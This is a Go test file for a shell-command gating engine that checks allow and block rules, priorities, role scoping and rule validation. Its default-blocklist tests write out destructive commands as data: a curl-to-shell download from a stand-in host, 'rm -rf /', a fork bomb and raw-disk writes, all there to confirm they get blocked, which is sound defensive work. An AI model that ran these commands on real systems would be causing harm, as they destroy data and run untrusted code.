package rules

import (
	"errors"
	"testing"

	"github.com/sentinelops/cmdgate/internal/shellparse"
)

func mustParse(t *testing.T, raw string) *shellparse.ParsedCommand {
	t.Helper()
	pc, err := shellparse.Parse(raw, shellparse.DialectPosix)
	if err != nil {
		t.Fatalf("parse %q: %v", raw, err)
	}
	return pc
}

func TestNoMatchIsNeutral(t *testing.T) {
	e := NewEngine(nil)
	d := e.Evaluate(mustParse(t, "echo hello"), nil)
	if d.Verdict != Neutral {
		t.Errorf("expected Neutral, got %s", d.Verdict)
	}
	if d.Rule != nil {
		t.Error("neutral decision must not carry a rule")
	}
}

func TestExactBlock(t *testing.T) {
	e := NewEngine([]Rule{{
		ID: "b1", Type: TypeBlock, Pattern: "chmod -R 777 /", Kind: KindExact,
		Priority: 10, Enabled: true,
	}})
	d := e.Evaluate(mustParse(t, "chmod   -R  777 /"), nil)
	if d.Verdict != Blocked {
		t.Fatalf("expected Blocked, got %s", d.Verdict)
	}
	if d.Rule.ID != "b1" {
		t.Errorf("matched rule = %s", d.Rule.ID)
	}
}

func TestGlobAllow(t *testing.T) {
	e := NewEngine([]Rule{{
		ID: "a1", Type: TypeAllow, Pattern: "git status*", Kind: KindGlob,
		Priority: 10, Enabled: true,
	}})
	d := e.Evaluate(mustParse(t, "git status --short"), nil)
	if d.Verdict != Allowed {
		t.Fatalf("expected Allowed, got %s", d.Verdict)
	}
}

func TestBlockWinsAtEqualPriority(t *testing.T) {
	e := NewEngine([]Rule{
		{ID: "allow", Type: TypeAllow, Pattern: "rm *", Kind: KindGlob, Priority: 50, Enabled: true},
		{ID: "block", Type: TypeBlock, Pattern: "rm -rf *", Kind: KindGlob, Priority: 50, Enabled: true},
	})
	d := e.Evaluate(mustParse(t, "rm -rf /tmp/x"), nil)
	if d.Verdict != Blocked {
		t.Fatalf("block must win ties, got %s", d.Verdict)
	}
}

func TestAllowWinsWithStrictlyHigherPriority(t *testing.T) {
	e := NewEngine([]Rule{
		{ID: "allow", Type: TypeAllow, Pattern: "rm -rf /tmp/*", Kind: KindGlob, Priority: 60, Enabled: true},
		{ID: "block", Type: TypeBlock, Pattern: "rm -rf *", Kind: KindGlob, Priority: 50, Enabled: true},
	})
	d := e.Evaluate(mustParse(t, "rm -rf /tmp/scratch"), nil)
	if d.Verdict != Allowed {
		t.Fatalf("higher-priority allow must win, got %s (%s)", d.Verdict, d.Reason)
	}
}

func TestDisabledRuleIgnored(t *testing.T) {
	e := NewEngine([]Rule{{
		ID: "b1", Type: TypeBlock, Pattern: "echo *", Kind: KindGlob,
		Priority: 10, Enabled: false,
	}})
	d := e.Evaluate(mustParse(t, "echo hi"), nil)
	if d.Verdict != Neutral {
		t.Errorf("disabled rule must not match, got %s", d.Verdict)
	}
}

func TestRoleScopedRule(t *testing.T) {
	e := NewEngine([]Rule{{
		ID: "a1", Type: TypeAllow, Pattern: "systemctl *", Kind: KindGlob,
		Priority: 10, Enabled: true, Roles: []string{"operator"},
	}})
	if d := e.Evaluate(mustParse(t, "systemctl restart nginx"), []string{"viewer"}); d.Verdict != Neutral {
		t.Errorf("out-of-scope role must not match, got %s", d.Verdict)
	}
	if d := e.Evaluate(mustParse(t, "systemctl restart nginx"), []string{"operator"}); d.Verdict != Allowed {
		t.Errorf("in-scope role must match, got %s", d.Verdict)
	}
}

func TestDefaultSeedBlocksRootDeletion(t *testing.T) {
	e := NewEngine(DefaultBlockRules())
	d := e.Evaluate(mustParse(t, "rm -rf /"), nil)
	if d.Verdict != Blocked {
		t.Fatalf("expected Blocked, got %s (%s)", d.Verdict, d.Reason)
	}
	if d.Reason != "matches default blocklist rule: recursive deletion of root" {
		t.Errorf("reason = %q", d.Reason)
	}
}

func TestDefaultSeedBlocksPipeToShell(t *testing.T) {
	e := NewEngine(DefaultBlockRules())
	d := e.Evaluate(mustParse(t, "curl http://evil.example/x.sh | sh"), nil)
	if d.Verdict != Blocked {
		t.Fatalf("expected Blocked, got %s", d.Verdict)
	}
}

func TestDefaultSeedNeutralOnOrdinaryCommands(t *testing.T) {
	e := NewEngine(DefaultBlockRules())
	for _, raw := range []string{"echo hello", "ls -la /tmp", "rm -rf /tmp/scratch", "git push"} {
		if d := e.Evaluate(mustParse(t, raw), nil); d.Verdict != Neutral {
			t.Errorf("%q: expected Neutral, got %s (%s)", raw, d.Verdict, d.Reason)
		}
	}
}

func TestRegexTimeoutIsNonMatch(t *testing.T) {
	// A giant alternation over a long line stays within Go's linear-time
	// engine, so this exercises the budget plumbing rather than real
	// backtracking; the contract is that slow evaluation degrades to
	// Neutral, never to Allowed.
	e := NewEngine([]Rule{{
		ID: "wild", Type: TypeAllow, Pattern: `.*`, Kind: KindRegex,
		Priority: 10, Enabled: true,
	}})
	d := e.Evaluate(mustParse(t, "echo hello"), nil)
	if d.Verdict != Allowed && d.Verdict != Neutral {
		t.Fatalf("unexpected verdict %s", d.Verdict)
	}
}

func TestValidateRejectsBadRegexAtWriteTime(t *testing.T) {
	err := Validate(&Rule{ID: "x", Type: TypeBlock, Pattern: "(", Kind: KindRegex})
	if !errors.Is(err, ErrUnparseableRegex) {
		t.Fatalf("expected ErrUnparseableRegex, got %v", err)
	}
}

func TestValidateRejectsBadMetadata(t *testing.T) {
	cases := []struct {
		rule Rule
		want error
	}{
		{Rule{Type: TypeBlock, Pattern: "x", Kind: KindExact}, ErrEmptyID},
		{Rule{ID: "a", Type: TypeBlock, Kind: KindExact}, ErrEmptyPattern},
		{Rule{ID: "a", Type: "weird", Pattern: "x", Kind: KindExact}, ErrBadType},
		{Rule{ID: "a", Type: TypeBlock, Pattern: "x", Kind: "weird"}, ErrBadKind},
		{Rule{ID: "a", Type: TypeBlock, Pattern: "x", Kind: KindExact, Priority: -1}, ErrBadPriority},
	}
	for i, c := range cases {
		if err := Validate(&c.rule); !errors.Is(err, c.want) {
			t.Errorf("case %d: expected %v, got %v", i, c.want, err)
		}
	}
}

func TestNormalizedLineRestoresConnectors(t *testing.T) {
	pc := mustParse(t, "cat /etc/passwd | grep root && echo ok")
	want := "cat /etc/passwd | grep root && echo ok"
	if got := NormalizedLine(pc); got != want {
		t.Errorf("NormalizedLine = %q, want %q", got, want)
	}
}

func TestReplaceSwapsAtomically(t *testing.T) {
	e := NewEngine([]Rule{{ID: "b", Type: TypeBlock, Pattern: "echo *", Kind: KindGlob, Priority: 1, Enabled: true}})
	pc := mustParse(t, "echo hi")
	if d := e.Evaluate(pc, nil); d.Verdict != Blocked {
		t.Fatal("initial snapshot not active")
	}
	e.Replace(nil)
	if d := e.Evaluate(pc, nil); d.Verdict != Neutral {
		t.Fatal("replacement snapshot not active")
	}
}

func TestDefaultSeedBlocksRawDeviceRedirect(t *testing.T) {
	e := NewEngine(DefaultBlockRules())
	d := e.Evaluate(mustParse(t, "echo junk > /dev/sda1"), nil)
	if d.Verdict != Blocked {
		t.Fatalf("expected Blocked, got %s (%s)", d.Verdict, d.Reason)
	}
	if d.Rule.ID != "default.dev-write" {
		t.Errorf("matched rule = %s", d.Rule.ID)
	}
}

func TestDefaultSeedBlocksForkBomb(t *testing.T) {
	e := NewEngine(DefaultBlockRules())
	d := e.Evaluate(mustParse(t, ":(){ :|:& };:"), nil)
	if d.Verdict != Blocked {
		t.Fatalf("expected Blocked, got %s (%s)", d.Verdict, d.Reason)
	}
	if d.Rule.ID != "default.forkbomb" {
		t.Errorf("matched rule = %s", d.Rule.ID)
	}
}

func TestNormalizedLineRendersRedirects(t *testing.T) {
	cases := []struct {
		raw  string
		want string
	}{
		{"echo hi > /tmp/out", "echo hi > /tmp/out"},
		{"echo hi >> /tmp/log", "echo hi >> /tmp/log"},
		{"wc -l < /etc/passwd", "wc -l < /etc/passwd"},
		{"sleep 10 &", "sleep 10 &"},
	}
	for _, c := range cases {
		if got := NormalizedLine(mustParse(t, c.raw)); got != c.want {
			t.Errorf("NormalizedLine(%q) = %q, want %q", c.raw, got, c.want)
		}
	}
}

func TestEvaluateMatchesRawSpelling(t *testing.T) {
	// quoting that the normalized line strips must not hide the command
	// from a pattern that targets the raw spelling.
	e := NewEngine([]Rule{{
		ID: "b1", Type: TypeBlock, Pattern: `*"/dev/sda"*`, Kind: KindGlob,
		Priority: 10, Enabled: true,
	}})
	d := e.Evaluate(mustParse(t, `dd of="/dev/sda" if=/tmp/x`), nil)
	if d.Verdict != Blocked {
		t.Fatalf("expected Blocked, got %s", d.Verdict)
	}
}
